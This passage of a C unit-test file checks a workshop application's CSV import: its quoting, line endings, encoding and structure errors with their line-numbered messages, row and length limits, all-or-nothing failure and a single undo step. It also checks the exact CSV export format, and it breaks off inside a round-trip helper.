/* test-csv.c: CSV import (quoting, line ends, checks and their messages, all or nothing, one
 * undo step) and export (formulas neutralised, private notes left out when asked)
 *
 * SPDX-License-Identifier: GPL-3.0-or-later
 */
#define G_LOG_DOMAIN "cg-test"

#include "config.h"

#include <string.h>

#include "io/cg-io.h"

#define HEADER "event,theme,voice,kind,text,votes,private,beyond_service,status"

/* Everything a test can see of a workshop from outside, to show an import changed nothing. */
typedef struct
{
  guint   n_items[5];
  guint   n_undo;
  guint   n_redo;
  GBytes *csv;
} Snapshot;

static GListModel *
get_collection (CgWorkshop *workshop,
                guint       which)
{
  switch (which)
    {
    case 0: return cg_workshop_get_events (workshop);
    case 1: return cg_workshop_get_voices (workshop);
    case 2: return cg_workshop_get_themes (workshop);
    case 3: return cg_workshop_get_ideas (workshop);
    default: return cg_workshop_get_actions (workshop);
    }
}

static void
snapshot_take (Snapshot   *snapshot,
               CgWorkshop *workshop)
{
  CgHistory *history = cg_workshop_get_history (workshop);

  for (guint i = 0; i < G_N_ELEMENTS (snapshot->n_items); i++)
    snapshot->n_items[i] = g_list_model_get_n_items (get_collection (workshop, i));
  snapshot->n_undo = cg_history_get_n_undo (history);
  snapshot->n_redo = cg_history_get_n_redo (history);
  snapshot->csv = cg_csv_export (workshop, TRUE);
}

static void
snapshot_assert_same (Snapshot   *snapshot,
                      CgWorkshop *workshop)
{
  Snapshot now;

  snapshot_take (&now, workshop);
  for (guint i = 0; i < G_N_ELEMENTS (snapshot->n_items); i++)
    g_assert_cmpuint (now.n_items[i], ==, snapshot->n_items[i]);
  g_assert_cmpuint (now.n_undo, ==, snapshot->n_undo);
  g_assert_cmpuint (now.n_redo, ==, snapshot->n_redo);
  g_assert_true (g_bytes_equal (now.csv, snapshot->csv));
  g_bytes_unref (now.csv);
}

static void
snapshot_clear (Snapshot *snapshot)
{
  g_clear_pointer (&snapshot->csv, g_bytes_unref);
}

/* A workshop with something in it already, and steps in its history. */
static CgWorkshop *
make_workshop (void)
{
  CgWorkshop *workshop = cg_workshop_new ("Test series");
  g_autoptr(CgEvent) event = cg_event_new ("March workshop");
  g_autoptr(CgTheme) theme = cg_theme_new ("Hope", "#3465a4");
  g_autoptr(CgVoice) voice = cg_voice_new ("Lived experience", "#c061cb");
  g_autoptr(CgIdea) idea = cg_idea_new ("Being believed the first time");

  cg_workshop_add (workshop, event);
  cg_workshop_add (workshop, theme);
  cg_workshop_add (workshop, voice);
  cg_idea_set_event (idea, event);
  cg_idea_set_theme (idea, theme);
  cg_idea_set_voice (idea, voice);
  cg_workshop_add (workshop, idea);
  return workshop;
}

static void
import_ok (CgWorkshop *workshop,
           const char *csv)
{
  g_autoptr(GError) error = NULL;
  gboolean ok = cg_csv_import (workshop, csv, strlen (csv), "ideas.csv", &error);

  g_assert_no_error (error);
  g_assert_true (ok);
}

static CgIdea *
get_idea (CgWorkshop *workshop,
          guint       position)
{
  GListModel *ideas = cg_workshop_get_ideas (workshop);
  g_autoptr(CgIdea) idea = g_list_model_get_item (ideas, position);

  g_assert_nonnull (idea);
  return idea; /* the workshop keeps it */
}

static char *
export_string_full (CgWorkshop *workshop,
                    gboolean    include_private)
{
  g_autoptr(GBytes) bytes = cg_csv_export (workshop, include_private);
  gsize size;
  const char *data = g_bytes_get_data (bytes, &size);

  return g_strndup (data, size);
}

static char *
export_string (CgWorkshop *workshop)
{
  return export_string_full (workshop, TRUE);
}

static void
test_import_fields (void)
{
  g_autoptr(CgWorkshop) workshop = make_workshop ();
  CgIdea *idea;

  import_ok (workshop,
             HEADER "\n"
             "March workshop,Hope,Lived experience,Strength,Peer support group on Tuesdays,"
             "4,YES, no ,Actioned\n");

  g_assert_cmpuint (g_list_model_get_n_items (cg_workshop_get_ideas (workshop)), ==, 2);
  /* Names that exist already are matched, not created again. */
  g_assert_cmpuint (g_list_model_get_n_items (cg_workshop_get_events (workshop)), ==, 1);
  g_assert_cmpuint (g_list_model_get_n_items (cg_workshop_get_themes (workshop)), ==, 1);
  g_assert_cmpuint (g_list_model_get_n_items (cg_workshop_get_voices (workshop)), ==, 1);

  idea = get_idea (workshop, 1);
  g_assert_cmpstr (cg_idea_get_text (idea), ==, "Peer support group on Tuesdays");
  g_assert_cmpstr (cg_event_get_title (cg_idea_get_event (idea)), ==, "March workshop");
  g_assert_cmpstr (cg_theme_get_name (cg_idea_get_theme (idea)), ==, "Hope");
  g_assert_cmpstr (cg_voice_get_name (cg_idea_get_voice (idea)), ==, "Lived experience");
  g_assert_cmpint (cg_idea_get_kind (idea), ==, CG_IDEA_KIND_STRENGTH);
  g_assert_cmpint (cg_idea_get_status (idea), ==, CG_IDEA_STATUS_ACTIONED);
  g_assert_true (cg_idea_get_private (idea));
  g_assert_false (cg_idea_get_beyond_service (idea));
  /* Votes are counted at the idea's own event. */
  g_assert_cmpuint (cg_idea_get_votes (idea, cg_idea_get_event (idea)), ==, 4);
  g_assert_cmpuint (cg_idea_get_total_votes (idea), ==, 4);
}

static void
test_import_defaults (void)
{
  g_autoptr(CgWorkshop) workshop = cg_workshop_new ("Defaults");
  CgIdea *idea;

  import_ok (workshop, HEADER "\n,,,,Only the text,,,,\n");

  idea = get_idea (workshop, 0);
  g_assert_cmpstr (cg_idea_get_text (idea), ==, "Only the text");
  g_assert_null (cg_idea_get_event (idea));
  g_assert_null (cg_idea_get_theme (idea));
  g_assert_null (cg_idea_get_voice (idea));
  g_assert_cmpint (cg_idea_get_kind (idea), ==, CG_IDEA_KIND_IDEA);
  g_assert_cmpint (cg_idea_get_status (idea), ==, CG_IDEA_STATUS_OPEN);
  g_assert_false (cg_idea_get_private (idea));
  g_assert_false (cg_idea_get_beyond_service (idea));
  g_assert_cmpuint (cg_idea_get_total_votes (idea), ==, 0);
  g_assert_cmpuint (g_list_model_get_n_items (cg_workshop_get_events (workshop)), ==, 0);
  g_assert_cmpuint (g_list_model_get_n_items (cg_workshop_get_themes (workshop)), ==, 0);
  g_assert_cmpuint (g_list_model_get_n_items (cg_workshop_get_voices (workshop)), ==, 0);
}

static void
test_import_quoting (void)
{
  static const struct { const char *field; const char *text; } cases[] = {
    { "\"Crisis line, then nothing\"", "Crisis line, then nothing" },
    { "\"She said \"\"ring me back\"\"\"", "She said \"ring me back\"" },
    { "\"\"\"\"", "\"" },
    { "\"First line\nsecond line\"", "First line\nsecond line" },
    { "\"First line\r\nsecond line\"", "First line\nsecond line" },
    { "\"  kept spaces  \"", "  kept spaces  " },
    { "plain text with 'single' quotes", "plain text with 'single' quotes" },
    { "caf\xc3\xa9 \xe2\x80\x94 ok", "caf\xc3\xa9 \xe2\x80\x94 ok" },
  };

  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_autoptr(CgWorkshop) workshop = cg_workshop_new ("Quoting");
      /* A quoted empty field is empty: these votes have no event to be counted at. */
      g_autofree char *csv = g_strdup_printf (HEADER "\n\"\",\"\",,idea,%s,\"3\",,,\n"
                                              ",,,,second,,,,",
                                              cases[i].field);
      g_autofree char *with_event = g_strdup_printf (HEADER "\nMarch,\"\",,idea,%s,\"3\",,,\n"
                                                     ",,,,second,,,,",
                                                     cases[i].field);
      g_autoptr(GError) error = NULL;

      g_assert_false (cg_csv_import (workshop, csv, strlen (csv), "ideas.csv", &error));
      g_assert_error (error, CG_IO_ERROR, CG_IO_ERROR_CSV);

      import_ok (workshop, with_event);
      g_assert_cmpuint (g_list_model_get_n_items (cg_workshop_get_ideas (workshop)), ==, 2);
      g_assert_cmpstr (cg_idea_get_text (get_idea (workshop, 0)), ==, cases[i].text);
      g_assert_null (cg_idea_get_theme (get_idea (workshop, 0)));
      g_assert_cmpuint (cg_idea_get_total_votes (get_idea (workshop, 0)), ==, 3);
      g_assert_cmpstr (cg_idea_get_text (get_idea (workshop, 1)), ==, "second");
    }
}

/* The same rows in every shape a spreadsheet may give them come out the same. */
static void
test_import_line_ends (void)
{
  static const char *shapes[] = {
    HEADER "\nMarch,Hope,Carers,story,\"Two\nlines\",1,no,yes,open\n,,,,Last,,,,\n",
    HEADER "\nMarch,Hope,Carers,story,\"Two\nlines\",1,no,yes,open\n,,,,Last,,,,",
    HEADER "\r\nMarch,Hope,Carers,story,\"Two\r\nlines\",1,no,yes,open\r\n,,,,Last,,,,\r\n",
    HEADER "\r\nMarch,Hope,Carers,story,\"Two\nlines\",1,no,yes,open\r\n,,,,Last,,,,",
    "\xef\xbb\xbf" HEADER "\r\nMarch,Hope,Carers,story,\"Two\nlines\",1,no,yes,open\r\n"
    ",,,,Last,,,,\r\n",
    "\xef\xbb\xbf" HEADER "\nMarch,Hope,Carers,story,\"Two\nlines\",1,no,yes,open\n\n"
    ",,,,Last,,,,\n\n\n",
    "voice,status,text,event,theme,kind,votes,beyond_service,private\n"
    "Carers,open,\"Two\nlines\",March,Hope,story,1,yes,no\n,,Last,,,,,,\n",
    " Event , THEME,voice,kind,text,votes,private,beyond_service,status\n"
    "March,Hope,Carers,story,\"Two\nlines\",1,no,yes,open\n,,,,Last,,,,\n",
    /* CR alone ends a line (old Macs, some Excel exports); inside quotes it is text */
    HEADER "\rMarch,Hope,Carers,story,\"Two\rlines\",1,no,yes,open\r,,,,Last,,,,\r",
    HEADER "\rMarch,Hope,Carers,story,\"Two\nlines\",1,no,yes,open\r\r,,,,Last,,,,",
    "\xef\xbb\xbf" HEADER "\rMarch,Hope,Carers,story,\"Two\r\nlines\",1,no,yes,open\r"
    ",,,,Last,,,,\r",
    /* and all three in one file */
    HEADER "\r\nMarch,Hope,Carers,story,\"Two\rlines\",1,no,yes,open\r,,,,Last,,,,\n",
    HEADER "\nMarch,Hope,Carers,story,\"Two\nlines\",1,no,yes,open\r\n\r,,,,Last,,,,\r\n",
  };
  g_autofree char *expected = NULL;

  for (guint i = 0; i < G_N_ELEMENTS (shapes); i++)
    {
      g_autoptr(CgWorkshop) workshop = cg_workshop_new ("Shapes");
      g_autofree char *csv = NULL;

      g_test_message ("shape %u", i);
      import_ok (workshop, shapes[i]);
      g_assert_cmpuint (g_list_model_get_n_items (cg_workshop_get_ideas (workshop)), ==, 2);
      g_assert_cmpstr (cg_idea_get_text (get_idea (workshop, 0)), ==, "Two\nlines");
      g_assert_cmpstr (cg_idea_get_text (get_idea (workshop, 1)), ==, "Last");

      csv = export_string (workshop);
      if (expected == NULL)
        expected = g_steal_pointer (&csv);
      else
        g_assert_cmpstr (csv, ==, expected);
    }
}

typedef const char *(*GetStringFunc) (gpointer object);

static void
assert_names (GListModel         *model,
              GetStringFunc       get_name,
              const char * const *names)
{
  guint n = g_list_model_get_n_items (model);

  g_assert_cmpuint (n, ==, g_strv_length ((char **) names));
  for (guint i = 0; i < n; i++)
    {
      g_autoptr(GObject) object = g_list_model_get_item (model, i);

      g_assert_cmpstr (get_name (object), ==, names[i]);
    }
}

static void
assert_colours (GListModel    *model,
                GetStringFunc  get_colour)
{
  g_autoptr(GHashTable) seen = g_hash_table_new (g_str_hash, g_str_equal);
  guint n = g_list_model_get_n_items (model);

  for (guint i = 0; i < n; i++)
    {
      g_autoptr(GObject) object = g_list_model_get_item (model, i);
      const char *colour = get_colour (object);

      g_assert_nonnull (colour);
      g_assert_cmpuint (strlen (colour), ==, 7);
      g_assert_cmpint (colour[0], ==, '#');
      for (guint c = 1; c < 7; c++)
        g_assert_true (g_ascii_isdigit (colour[c]) || (colour[c] >= 'a' && colour[c] <= 'f'));
      g_assert_true (g_hash_table_add (seen, (gpointer) colour));
    }
}

static void
test_import_created_by_name (void)
{
  g_autoptr(CgWorkshop) workshop = make_workshop ();
  static const char * const events[] = { "March workshop", "June workshop", "Online", NULL };
  static const char * const themes[] = { "Hope", "Peer roles", "First contacts", NULL };
  static const char * const voices[] = { "Lived experience", "Staff", "Family and carers", NULL };

  import_ok (workshop,
             HEADER "\n"
             "June workshop,Peer roles,Staff,,one,,,,\n"
             ",First contacts,Lived experience,,two,,,,\n"
             "March workshop,Hope,Family and carers,,three,,,,\n"
             "Online,Peer roles,Staff,,four,,,,\n"
             "June workshop,First contacts,Family and carers,,five,,,,\n");

  assert_names (cg_workshop_get_events (workshop), (GetStringFunc) cg_event_get_title, events);
  assert_names (cg_workshop_get_themes (workshop), (GetStringFunc) cg_theme_get_name, themes);
  assert_names (cg_workshop_get_voices (workshop), (GetStringFunc) cg_voice_get_name, voices);
  assert_colours (cg_workshop_get_themes (workshop), (GetStringFunc) cg_theme_get_colour);
  assert_colours (cg_workshop_get_voices (workshop), (GetStringFunc) cg_voice_get_colour);

  /* Rows naming the same new theme share one object. */
  g_assert_true (cg_idea_get_theme (get_idea (workshop, 1)) ==
                 cg_idea_get_theme (get_idea (workshop, 4)));
  g_assert_true (cg_idea_get_event (get_idea (workshop, 1)) ==
                 cg_idea_get_event (get_idea (workshop, 5)));
}

typedef struct
{
  const char *csv;
  gssize      length; /* -1: up to the NUL */
  guint       line;
  const char *message;
  int         code;
} BadCase;

static const BadCase bad_cases[] = {
  /* The header */
  { "", -1, 1, "the file is empty", CG_IO_ERROR_CSV },
  { "\xef\xbb\xbf\n\n", -1, 1, "the file is empty", CG_IO_ERROR_CSV },
  { "event,theme,voice,kind,text,votes,private,beyond_service\n", -1, 1,
    "no 'status' column", CG_IO_ERROR_CSV },
  { HEADER ",colour\n", -1, 1, "unknown column 'colour'", CG_IO_ERROR_CSV },
  { "event,theme,voice,kind,text,votes,private,beyond_service,status,text\n", -1, 1,
    "column 'text' twice", CG_IO_ERROR_CSV },
  { "event;theme;voice;kind;text;votes;private;beyond_service;status\r\n", -1, 1,
    "not separated by commas", CG_IO_ERROR_CSV },
  { "event,theme,voice,kind,te\xffxt,votes,private,beyond_service,status\n", -1, 1,
    "not valid UTF-8", CG_IO_ERROR_CSV },
  /* Values */
  { HEADER "\n,,,x,Hello,,,,\n", -1, 2,
    "kind 'x' is not one of idea, strength, development, story, question", CG_IO_ERROR_CSV },
  { HEADER "\n,,,,Hello,,,,done\n", -1, 2,
    "status 'done' is not one of open, actioned, parked, closed", CG_IO_ERROR_CSV },
  { HEADER "\n,,,,Hello,,maybe,,\n", -1, 2, "private 'maybe' is not yes or no",
    CG_IO_ERROR_CSV },
  { HEADER "\n,,,,Hello,,,y,\n", -1, 2, "beyond_service 'y' is not yes or no",
    CG_IO_ERROR_CSV },
  { HEADER "\nMarch,,,,Hello,-1,,,\n", -1, 2, "votes '-1' is not a whole number",
    CG_IO_ERROR_CSV },
  { HEADER "\nMarch,,,,Hello,2.5,,,\n", -1, 2, "votes '2.5' is not", CG_IO_ERROR_CSV },
  { HEADER "\nMarch,,,,Hello,ten,,,\n", -1, 2, "votes 'ten' is not", CG_IO_ERROR_CSV },
  { HEADER "\nMarch,,,,Hello,1000001,,,\n", -1, 2, "from 0 to 1000000", CG_IO_ERROR_CSV },
  { HEADER "\nMarch,,,,Hello,99999999999999999999999,,,\n", -1, 2, "votes '", CG_IO_ERROR_CSV },
  { HEADER "\n,,,,Hello,3,,,\n", -1, 2, "3 votes but no event", CG_IO_ERROR_CSV },
  { HEADER "\n,,,,,,,,\n", -1, 2, "the row is empty, only commas", CG_IO_ERROR_CSV },
  { HEADER "\n,,,,Good,,,,\r\n,,,,,,,,\r\n", -1, 3, "the row is empty, only commas",
    CG_IO_ERROR_CSV },
  { HEADER "\nMarch,,,,,,,,\n", -1, 2, "the text is empty", CG_IO_ERROR_CSV },
  { HEADER "\n,,,,\"  \n\t \",,,,\n", -1, 2, "the text is empty", CG_IO_ERROR_CSV },
  { HEADER "\n,,,,Caf\xc3,,,,\n", -1, 2, "not valid UTF-8", CG_IO_ERROR_CSV },
  /* Structure */
  { HEADER "\n,,,,\"Hello,,,,\n", -1, 2, "never closed", CG_IO_ERROR_CSV },
  { HEADER "\n,,,,Hel\"lo,,,,\n", -1, 2, "a quote inside a field", CG_IO_ERROR_CSV },
  { HEADER "\n,,,,\"Hello\" there,,,,\n", -1, 2, "after the closing quote", CG_IO_ERROR_CSV },
  { HEADER "\n,,,,Hello,,,\n", -1, 2, "the row has 8 fields but the header has 9",
    CG_IO_ERROR_CSV },
  { HEADER "\n,,,,Hello,,,,,,,,\n", -1, 2, "the row has 13 fields", CG_IO_ERROR_CSV },
  { HEADER "\nsingle\n", -1, 2, "the row has 1 field but", CG_IO_ERROR_CSV },
  /* Line numbers: blank lines count, a record is named by the line it starts on */
  { HEADER "\n,,,,Good,,,,\n\n,,,x,Bad,,,,\n", -1, 4, "kind 'x'", CG_IO_ERROR_CSV },
  { HEADER "\r\n,,,,\"one\r\ntwo\r\nthree\",,,,\r\n,,,,Bad,,,,open?\r\n", -1, 5,
    "status 'open?'", CG_IO_ERROR_CSV },
  { HEADER "\n,,,,Good,,,,\n,,,,\"starts here\nand goes on\",,,,shelved\n", -1, 3,
    "status 'shelved'", CG_IO_ERROR_CSV },
  { "\xef\xbb\xbf" HEADER "\n,,,,Good,,,,\n,,,,Good,,,,\n,,,,\"never\nclosed,,,,\n", -1, 4,
    "never closed", CG_IO_ERROR_CSV },
  /* ...and lines ended by a lone CR count as lines */
  { HEADER "\r,,,,Good,,,,\r,,,,\"one\rtwo\",,,,\r\r,,,x,Bad,,,,\r", -1, 6, "kind 'x'",
    CG_IO_ERROR_CSV },
  { HEADER "\r\n,,,,Good,,,,\r,,,,Good,,,,\n,,,,Good,,,,closed?\r\n", -1, 4,
    "status 'closed?'", CG_IO_ERROR_CSV },
};

/* What is really wrong, where an earlier message named a symptom. */
#define NUL_CSV HEADER "\n,,,,A\0B,,,,\n"
#define NUL_LATER_CSV HEADER "\r\n,,,,Good,,,,\r,,,,\"x\ny\",,,,\n,,,,Go\0d,,,,\n"
static const BadCase misleading_cases[] = {
  /* A NUL byte: not a text file, named at the line it is on */
  { NUL_CSV, sizeof (NUL_CSV) - 1, 2, "this line holds a zero (NUL) byte, which text never has: "
    "the file is not a text file, or it is damaged", CG_IO_ERROR_CSV },
  { NUL_LATER_CSV, sizeof (NUL_LATER_CSV) - 1, 5, "zero (NUL) byte", CG_IO_ERROR_CSV },
  { "PK\x03\x04\x14\0\0\0\x08\0", 10, 1, "a spreadsheet workbook", CG_IO_ERROR_CSV },
  { "\xff\xfe" "e\0v\0e\0n\0t\0", 12, 1, "saved as UTF-16", CG_IO_ERROR_CSV },
  { "e\0v\0e\0n\0t\0", 10, 1, "saved as UTF-16", CG_IO_ERROR_CSV },
  /* Lines ended by a lone CR are lines, not part of a column's name */
  { HEADER "\rMarch,,,x,Hello,,,,\r", -1, 2, "kind 'x' is not one of", CG_IO_ERROR_CSV },
  /* Windows-1252 ("ANSI") bytes */
  { HEADER "\n,,,,Caf\xe9 on Fridays,,,,\n", -1, 2,
    "the text column is not valid UTF-8 text: the file was probably saved in another encoding, "
    "such as Windows-1252", CG_IO_ERROR_CSV },
  { HEADER "\nCaf\xe9 meeting,,,,Hello,,,,\n", -1, 2, "the event column is not valid UTF-8",
    CG_IO_ERROR_CSV },
  { "\xe9vent,theme,voice,kind,text,votes,private,beyond_service,status\n", -1, 1,
    "such as Windows-1252", CG_IO_ERROR_CSV },
  /* A byte order mark in the middle: two files joined together */
  { "\xef\xbb\xbf" HEADER "\r\n,,,,A,,,,\r\n\xef\xbb\xbf" HEADER "\r\n,,,,B,,,,\r\n", -1, 3,
    "this row repeats the header; were two files joined together?", CG_IO_ERROR_CSV },
  { HEADER "\n,,,,A,,,,\n" HEADER "\n,,,,B,,,,\n", -1, 3, "this row repeats the header",
    CG_IO_ERROR_CSV },
  { HEADER "\n,,,,A,,,,\n\xef\xbb\xbfMarch,,,,B,,,,\n", -1, 3,
    "the row starts with a byte order mark", CG_IO_ERROR_CSV },
  { HEADER "\n,,,,A,,,,\n\xef\xbb\xbf\"March\",,,,B,,,,\n", -1, 3,
    "the row starts with a byte order mark", CG_IO_ERROR_CSV },
  { HEADER "\n,,,,\xef\xbb\xbf\"B\",,,,\n", -1, 2, "a field starts with a byte order mark",
    CG_IO_ERROR_CSV },
  /* A lone quote that pairs up with a quote lines later */
  { HEADER "\n,,,,\"Hello,,,,\n,,,,Good,,,,\n,,,,\"Quoted\",,,,\n", -1, 2,
    "a quoted field runs from line 2 to line 4 and has text after its closing quote: is a quote "
    "on line 2 never closed", CG_IO_ERROR_CSV },
  { HEADER "\n,,,,\"Hello,,,,\n,,,,Good,,,,\n,,,,x\",,,\n", -1, 2,
    "the row runs from line 2 to line 4 and has 8 fields but the header has 9: check the quotes",
    CG_IO_ERROR_CSV },
  { HEADER "\n,,,,\"He said \"hi\" twice\",,,,\n", -1, 2,
    "after the closing quote of a field (a quote inside a quoted field must be doubled)",
    CG_IO_ERROR_CSV },
  /* An empty file, a blank first line, a first line of ideas, empty columns in the header */
  { "\r\r\n", -1, 1, "the file is empty", CG_IO_ERROR_CSV },
  { "  \n,,,,Hello,,,,\n", -1, 1, "the first line does not name the columns; it should be the "
    "header " HEADER, CG_IO_ERROR_CSV },
  { "March,Hope,Staff,idea,Hello,1,no,no,open\n", -1, 1, "does not name the columns",
    CG_IO_ERROR_CSV },
  { HEADER ",,\n,,,,Hello,,,,,,\n", -1, 1, "column 10 of the header has no name",
    CG_IO_ERROR_CSV },
};

static void
assert_bad_import (const BadCase *bad)
{
  g_autoptr(CgWorkshop) workshop = make_workshop ();
  g_autoptr(GError) error = NULL;
  g_autofree char *prefix = g_strdup_printf ("ideas.csv:%u: ", bad->line);
  gsize length = bad->length < 0 ? strlen (bad->csv) : (gsize) bad->length;
  Snapshot before;

  snapshot_take (&before, workshop);
  g_assert_false (cg_csv_import (workshop, bad->csv, length, "ideas.csv", &error));
  g_assert_error (error, CG_IO_ERROR, bad->code);
  g_test_message ("%s", error->message);
  g_assert_true (g_str_has_prefix (error->message, prefix));
  g_assert_nonnull (strstr (error->message, bad->message));
  snapshot_assert_same (&before, workshop);
  snapshot_clear (&before);
}

static void
test_import_bad_rows (void)
{
  for (guint i = 0; i < G_N_ELEMENTS (bad_cases); i++)
    {
      g_test_message ("case %u", i);
      assert_bad_import (&bad_cases[i]);
    }
}

static void
test_import_misleading (void)
{
  for (guint i = 0; i < G_N_ELEMENTS (misleading_cases); i++)
    {
      g_test_message ("case %u", i);
      assert_bad_import (&misleading_cases[i]);
    }
}

static void
test_import_bad_exact_message (void)
{
  g_autoptr(CgWorkshop) workshop = make_workshop ();
  g_autoptr(GError) error = NULL;
  const char *csv = HEADER "\n,,,,a,,,,\n,,,,b,,,,\n,,,,c,,,,\n,,,,d,,,,\n,,,,e,,,,\n,,,x,f,,,,\n";

  g_assert_false (cg_csv_import (workshop, csv, strlen (csv), "ideas.csv", &error));
  g_assert_cmpstr (error->message, ==,
                   "ideas.csv:7: kind 'x' is not one of idea, strength, development, story, "
                   "question");
}

static void
test_import_long_values (void)
{
  g_autoptr(GString) text = g_string_new (NULL);
  g_autofree char *csv = NULL;
  BadCase bad = { NULL, -1, 2, "longer than 10000 characters", CG_IO_ERROR_CSV };
  g_autoptr(CgWorkshop) workshop = cg_workshop_new ("Long");

  /* Exactly the limit (in characters, not bytes) is fine. */
  for (guint i = 0; i < CG_IDEA_MAX_TEXT; i++)
    g_string_append (text, "\xc3\xa9");
  csv = g_strdup_printf (HEADER "\n,,,,%s,,,,\n", text->str);
  import_ok (workshop, csv);
  g_assert_cmpuint (g_utf8_strlen (cg_idea_get_text (get_idea (workshop, 0)), -1), ==,
                    CG_IDEA_MAX_TEXT);

  g_string_append_c (text, 'x');
  g_free (csv);
  csv = g_strdup_printf (HEADER "\n,,,,%s,,,,\n", text->str);
  bad.csv = csv;
  assert_bad_import (&bad);

  /* A bad value is shown cut short in the message. */
  g_free (csv);
  csv = g_strdup_printf (HEADER "\n,,,%s,Hello,,,,\n", text->str);
  {
    g_autoptr(GError) error = NULL;

    g_assert_false (cg_csv_import (workshop, csv, strlen (csv), "ideas.csv", &error));
    g_assert_error (error, CG_IO_ERROR, CG_IO_ERROR_CSV);
    g_assert_cmpuint (strlen (error->message), <, 300);
  }
}

/* A quote never closed swallows the rows after it: the message says so, not just "too long". */
static void
test_import_long_runaway_quote (void)
{
  g_autoptr(GString) csv = g_string_new (HEADER "\n,,,,Good,,,,\n,,,,\"Start,,,,\n");
  g_autoptr(GString) names = g_string_new (HEADER "\n,,,,Good,,,,\n,\"Hope,,,,\n");
  BadCase bad = { NULL, -1, 3, NULL, CG_IO_ERROR_CSV };

  for (guint i = 0; i < 1000; i++)
    {
      g_string_append (csv, ",,,,Another note,,,,\n");
      g_string_append (names, ",,,,Another note,,,,\n");
    }
  g_string_append (csv, ",,,,End\",,,,\n");
  g_string_append (names, ",,,End\",,,,,,,\n");

  bad.csv = csv->str;
  bad.message = "the text runs from line 3 to line 1004 and is longer than 10000 characters: "
                "is a quote on line 3 never closed?";
  assert_bad_import (&bad);

  bad.csv = names->str;
  bad.message = "the theme name runs from line 3 to line 1004 and is longer than 10000 "
                "characters: is a quote on line 3 never closed?";
  assert_bad_import (&bad);
}

static void
assert_too_big (CgWorkshop *workshop,
                GString    *csv,
                const char *prefix)
{
  g_autoptr(GError) error = NULL;
  Snapshot before;

  snapshot_take (&before, workshop);
  g_assert_false (cg_csv_import (workshop, csv->str, csv->len, "big.csv", &error));
  g_assert_error (error, CG_IO_ERROR, CG_IO_ERROR_LIMIT);
  g_test_message ("%s", error->message);
  g_assert_true (g_str_has_prefix (error->message, prefix));
  snapshot_assert_same (&before, workshop);
  snapshot_clear (&before);
}

static void
test_import_too_many_rows (void)
{
  g_autoptr(GString) csv = g_string_new (HEADER "\n");
  g_autoptr(CgWorkshop) empty = cg_workshop_new ("Empty");
  g_autoptr(CgWorkshop) workshop = make_workshop ();

  for (guint i = 0; i <= 200000; i++)
    g_string_append (csv, ",,,,x,,,,\n");

  /* Row 200,001 is one too many for any import... */
  assert_too_big (empty, csv, "big.csv:200002: ");
  /* ...and row 200,000 one too many for a workshop that has an idea already. */
  assert_too_big (workshop, csv, "big.csv:200001: ");
}

static void
test_import_header_only (void)
{
  g_autoptr(CgWorkshop) workshop = make_workshop ();
  Snapshot before;

  snapshot_take (&before, workshop);
  import_ok (workshop, HEADER);
  import_ok (workshop, HEADER "\r\n\r\n");
  snapshot_assert_same (&before, workshop);
  snapshot_clear (&before);
}

static void
test_import_undo (void)
{
  g_autoptr(CgWorkshop) workshop = make_workshop ();
  CgHistory *history = cg_workshop_get_history (workshop);
  g_autoptr(GBytes) imported = NULL;
  Snapshot before;

  snapshot_take (&before, workshop);
  import_ok (workshop,
             HEADER "\n"
             "June workshop,Peer roles,Staff,question,Who pays peer workers?,2,,,\n"
             "March workshop,Hope,Carers,story,\"Nobody asked me, the carer\",,yes,,\n"
             ",,,development,Waiting times for a first visit,,,yes,parked\n");

  g_assert_cmpuint (cg_history_get_n_undo (history), ==, before.n_undo + 1);
  g_assert_cmpstr (cg_history_get_undo_label (history), ==, "Import CSV");
  g_assert_cmpuint (g_list_model_get_n_items (cg_workshop_get_ideas (workshop)), ==, 4);
  g_assert_cmpuint (g_list_model_get_n_items (cg_workshop_get_events (workshop)), ==, 2);
  g_assert_cmpuint (g_list_model_get_n_items (cg_workshop_get_themes (workshop)), ==, 2);
  g_assert_cmpuint (g_list_model_get_n_items (cg_workshop_get_voices (workshop)), ==, 3);
  imported = cg_csv_export (workshop, TRUE);

  /* One undo takes the whole import away: ideas and the events, themes and voices it made. */
  g_assert_true (cg_history_undo (history));
  before.n_redo++;
  snapshot_assert_same (&before, workshop);

  g_assert_true (cg_history_redo (history));
  {
    g_autoptr(GBytes) again = cg_csv_export (workshop, TRUE);

    g_assert_true (g_bytes_equal (again, imported));
  }
  snapshot_clear (&before);
}

static void
test_export_format (void)
{
  g_autoptr(CgWorkshop) workshop = cg_workshop_new ("Export");
  g_autoptr(CgEvent) march = cg_event_new ("March, 2026");
  g_autoptr(CgEvent) june = cg_event_new ("June");
  g_autoptr(CgTheme) theme = cg_theme_new ("First contacts", "#332288");
  g_autoptr(CgVoice) voice = cg_voice_new ("Family and carers", "#e69f00");
  g_autoptr(CgIdea) story = cg_idea_new ("She said \"ring me back\", and nobody did.");
  g_autoptr(CgIdea) question = cg_idea_new ("Two\nlines");
  g_autofree char *csv = NULL;

  cg_workshop_add (workshop, march);
  cg_workshop_add (workshop, june);
  cg_workshop_add (workshop, theme);
  cg_workshop_add (workshop, voice);
  cg_idea_set_event (story, march);
  cg_idea_set_theme (story, theme);
  cg_idea_set_voice (story, voice);
  cg_idea_set_kind (story, CG_IDEA_KIND_STORY);
  cg_idea_set_votes (story, march, 3);
  cg_idea_set_votes (story, june, 2);
  cg_idea_set_beyond_service (story, TRUE);
  cg_idea_set_status (story, CG_IDEA_STATUS_ACTIONED);
  cg_workshop_add (workshop, story);
  cg_idea_set_kind (question, CG_IDEA_KIND_QUESTION);
  cg_idea_set_private (question, TRUE);
  cg_workshop_add (workshop, question);

  csv = export_string (workshop);
  g_assert_cmpstr (csv, ==,
                   HEADER "\r\n"
                   "\"March, 2026\",First contacts,Family and carers,story,"
                   "\"She said \"\"ring me back\"\", and nobody did.\",5,no,yes,actioned\r\n"
                   ",,,question,\"Two\nlines\",0,yes,no,open\r\n");

  g_clear_object (&workshop);
  workshop = cg_workshop_new ("Empty");
  g_free (csv);
  csv = export_string (workshop);
  g_assert_cmpstr (csv, ==, HEADER "\r\n");
}

/* Exports @source, imports that into a new workshop and checks that it exports the same bytes. */
static CgWorkshop *
copy_through_csv (CgWorkshop *source)
{
  CgWorkshop *copy = cg_workshop_new ("Copy");
  g_autoptr(GBytes) first = cg_csv_export (source, TRUE);
  g_autoptr(GBytes) second = NULL;
  g_autoptr(GError) error = NULL;
  gsize size;
  const char *data = g_bytes_get_data (first, &size);

  g_assert_true (cg_csv_import (copy, data, size, "round.csv", &error));
  g_assert_no_error (error);
  second = cg_csv_export (copy, TRUE);
